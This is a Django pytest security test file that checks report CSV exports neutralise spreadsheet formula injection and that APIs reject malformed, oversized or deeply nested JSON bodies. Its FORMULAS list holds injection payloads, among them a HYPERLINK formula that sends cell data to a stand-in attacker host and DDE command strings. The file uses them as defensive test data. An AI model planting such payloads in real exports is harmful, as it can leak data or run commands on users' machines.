"""Hostile input: formula injection in report CSVs (finding 4), malformed bodies, unbounded
numbers and deep JSON (finding 6) — a clear 400 each, never a 500 and never a side effect."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.test import Client

from linking.models import PlanProduct, PlanStore
from reports.models import ReportRow, Run
from stores.models import Role
from tests.security.conftest import World

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _assert_neutralised(content: bytes) -> None:
    cells = _cells(content)
    for formula in FORMULAS:
        assert "'" + formula in cells, (formula, cells)
        assert formula not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def _login(world: World, role=Role.MASTER_ADMIN):
    client = Client()
    client.force_login(world.a.members[role].user)
    return client


def _download(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_every_report_csv_neutralises_formulas(world):
    a1 = world.a.stores["a1"]
    run = a1.run
    ReportRow.objects.filter(run=run).delete()
    for i, formula in enumerate(FORMULAS):
        ReportRow.objects.create(run=run, seq=i, product_title=formula, group=formula,
                                 public_id=formula, action="created", message=formula)  # fmt: skip
    ReportRow.objects.filter(run=a1.upload_run).delete()  # uploads report in the same layout
    for i, formula in enumerate(FORMULAS):
        ReportRow.objects.create(run=a1.upload_run, seq=i, asset_id=f"x{i}", public_id=formula,
                                 filename=formula, action="created", message=formula)  # fmt: skip
    formulas = [{"title": f, "group": f, "public_id": f, "action": "created", "position_before": 1}
                for f in FORMULAS]  # fmt: skip
    PlanProduct.objects.filter(result__plan=a1.plan).update(rows=formulas)
    PlanStore.objects.filter(plan=a1.plan).update(static_rows=formulas)
    client = _login(world)
    for url in (
        f"/api/runs/{run.pk}/report.csv",
        f"/admin/reports/run/{run.pk}/report.csv",
        f"/api/upload-runs/{a1.upload_run.pk}/report.csv",
        f"/admin/uploads/uploadbatch/runs/{a1.upload_run.pk}/report.csv",
        f"/api/plans/{a1.plan.pk}/report.csv",
        f"/admin/linking/plan/{a1.plan.pk}/report.csv",
    ):
        response = client.get(url)
        assert response.streaming, url  # every report CSV streams (issue 28)
        _assert_neutralised(_download(response))


def test_numbers_stay_numbers_in_reports(world):
    run = world.a.stores["a1"].run
    ReportRow.objects.filter(run=run).update(position_before=3, position_after=1)
    content = _download(_login(world).get(f"/api/runs/{run.pk}/report.csv"))
    row = next(csv.DictReader(io.StringIO(content.decode())))
    assert (row["position_before"], row["position_after"]) == ("3", "1")


def test_there_is_one_csv_writer():
    """Every report goes through reports.csv.stream_csv, which neutralises formulas."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("assetlink_project", "stores", "linking", "uploads", "reports")
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["reports/csv.py"]


# --- malformed bodies --------------------------------------------------------------------


@pytest.mark.parametrize("body", [[1], "abc", 5, {"stores": [{}]}, {"stores": 5}, {"x": 1}])
def test_run_and_start_refuse_bodies_of_the_wrong_shape(world, body):
    client = _login(world)
    a1 = world.a.stores["a1"]
    runs = Run.objects.count()
    for url in (f"/api/plans/{a1.plan.pk}/run/", f"/api/uploads/{a1.batch.pk}/start/"):
        response = client.post(url, json.dumps(body), content_type="application/json")
        assert response.status_code == 400, (url, response.content)
        assert response.json()
    assert Run.objects.count() == runs


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"link_mode": "position", "position": 2**63}, "position"),
        ({"link_mode": "position", "position": 10**30}, "position"),
        ({"link_mode": "position", "position": 251}, "position"),
        ({"link_mode": "append", "position": -1}, "position"),
        ({"cloudinary_field": "x" * 5000}, "cloudinary_field"),
        ({"stores": "shop-a1.myshopify.com"}, "stores"),
        ({"asset_ids": {"a": 1}}, "asset_ids"),
    ],
)
def test_plan_fields_out_of_bounds_are_400_naming_the_field(world, body, field):
    plan = world.a.stores["a1"].plan
    response = _login(world).patch(
        f"/api/plans/{plan.pk}/", json.dumps(body), content_type="application/json"
    )
    assert response.status_code == 400, response.content
    assert field in response.json()
    plan.refresh_from_db()
    assert plan.position is None


def test_setup_position_is_bounded(world):
    response = _login(world).patch(
        f"/api/workspaces/{world.a.workspace.pk}/setup/",
        json.dumps({"default_position": 10**30}),
        content_type="application/json",
    )
    assert response.status_code == 400 and "default_position" in response.json()


@pytest.mark.parametrize("depth", [33, 50_000])
def test_deeply_nested_json_is_400(world, depth):
    body = "[" * depth + "]" * depth
    client = _login(world)
    plan = world.a.stores["a1"].plan
    for method, url in (
        ("patch", f"/api/plans/{plan.pk}/"),
        ("post", f"/api/workspaces/{world.a.workspace.pk}/plans/"),
        ("post", f"/api/plans/{plan.pk}/run/"),
    ):
        response = getattr(client, method)(url, body, content_type="application/json")
        assert response.status_code == 400, (url, response.content[:200])
        assert b"levels deep" in response.content


def test_json_of_ordinary_depth_still_parses(world):
    plan = world.a.stores["a1"].plan
    body = {"manual_orders": {"SKU-1": ["a", "b"]}, "link_mode": "position", "position": 0}
    response = _login(world).patch(
        f"/api/plans/{plan.pk}/", json.dumps(body), content_type="application/json"
    )
    assert response.status_code == 400 and "start at 1" in str(response.json()["position"])


def test_an_oversized_body_is_refused(world, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    plan = world.a.stores["a1"].plan
    body = json.dumps({"expression": "x" * 2000})
    response = _login(world).patch(f"/api/plans/{plan.pk}/", body, content_type="application/json")
    assert response.status_code in (400, 413)
    plan.refresh_from_db()
    assert plan.expression != "x" * 2000
